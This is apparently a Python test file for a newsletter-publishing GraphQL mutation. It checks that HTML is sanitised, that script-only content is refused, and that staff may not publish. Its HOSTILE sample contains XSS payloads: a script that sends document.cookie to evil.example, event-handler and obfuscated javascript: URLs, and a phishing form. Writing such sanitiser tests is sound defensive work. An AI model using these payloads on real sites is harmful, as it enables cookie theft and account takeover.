"""mutation publishNewsletter — rich text that reaches the app without anything executable."""

from __future__ import annotations

import re

from models import Newsletter
from schema.ids import to_global_id
from tests import factories
from tests.publication_samples import ready_file

PUBLISH = """
mutation($input: PublishNewsletterInput!) { publishNewsletter(input: $input) {
  __typename
  ... on NewsletterPayload { newsletter { id title html hasAttachments } }
  ... on Refused { code field }
} }"""

READ = "{ viewer { newsletters { edges { node { id title html } } } } }"

HOSTILE = """<h2>Nieuwsbrief</h2>
<p onmouseover="steal(document.cookie)">Beste ouders,</p>
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<img src="https://evil.example/pixel.gif" onerror="alert(1)">
<svg onload="alert(2)"><circle r="5"/></svg>
<iframe srcdoc="&lt;script&gt;alert(3)&lt;/script&gt;"></iframe>
<style>body { background: url(https://evil.example/track) }</style>
<p style="background:url(javascript:alert(4))">Lees <a href="jav&#x09;ascript:alert(5)">dit</a>
of <a href="https://www.hoera.example/agenda" target="_blank">de agenda</a>.</p>
<form action="https://evil.example/phish"><input name="password"></form>"""


async def test_a_newsletter_with_a_script_reaches_the_parent_without_anything_executable(db, gql):
    # given
    t = await factories.tenant()
    planner_token = await factories.token_for(t.planner)
    parent_token = await factories.token_for(t.parent)
    # when
    published = await gql(
        PUBLISH, {"input": {"title": "Nieuwsbrief", "html": HOSTILE}}, token=planner_token
    )
    read = await gql(READ, token=parent_token)
    # then
    assert published["data"]["publishNewsletter"]["__typename"] == "NewsletterPayload"
    [edge] = read["data"]["viewer"]["newsletters"]["edges"]
    html = edge["node"]["html"]
    assert re.search(r"<\s*(script|img|svg|iframe|style|form|input)\b", html, re.I) is None
    assert re.search(r"\son\w+\s*=", html, re.I) is None
    assert re.search(r"javascript\s*:", html, re.I) is None
    assert "style=" not in html and "evil.example" not in html
    assert "<h2>Nieuwsbrief</h2>" in html
    assert '<a href="https://www.hoera.example/agenda" rel="noopener noreferrer">' in html
    stored = (await Newsletter.get()).html
    assert stored == html  # sanitised before it was written, not only on the way out


async def test_a_newsletter_with_only_a_script_is_refused(db, gql):
    # given
    t = await factories.tenant()
    token = await factories.token_for(t.planner)
    # when
    result = await gql(
        PUBLISH, {"input": {"title": "Leeg", "html": "<script>alert(1)</script>"}}, token=token
    )
    # then
    assert result["data"]["publishNewsletter"]["code"] == "CONTENT_REQUIRED"
    assert await Newsletter.all().count() == 0


async def test_a_planner_publishes_a_newsletter_with_an_attachment(db, gql):
    # given
    t = await factories.tenant()
    file = await ready_file(t.planner)
    token = await factories.token_for(t.planner)
    # when
    result = await gql(
        PUBLISH,
        {
            "input": {
                "title": "Nieuwsbrief BSO",
                "html": "<p>Clubs</p>",
                "locationId": to_global_id("Location", t.location.id),
                "attachmentIds": [to_global_id("Media", file.id)],
            }
        },
        token=token,
    )
    # then
    letter = result["data"]["publishNewsletter"]["newsletter"]
    assert (letter["title"], letter["html"], letter["hasAttachments"]) == (
        "Nieuwsbrief BSO",
        "<p>Clubs</p>",
        True,
    )


async def test_staff_may_not_publish_newsletters(db, gql):
    # given
    t = await factories.tenant()
    token = await factories.token_for(t.staff)
    # when
    result = await gql(PUBLISH, {"input": {"title": "T", "html": "<p>x</p>"}}, token=token)
    # then
    assert result["errors"][0]["extensions"]["code"] == "FORBIDDEN"
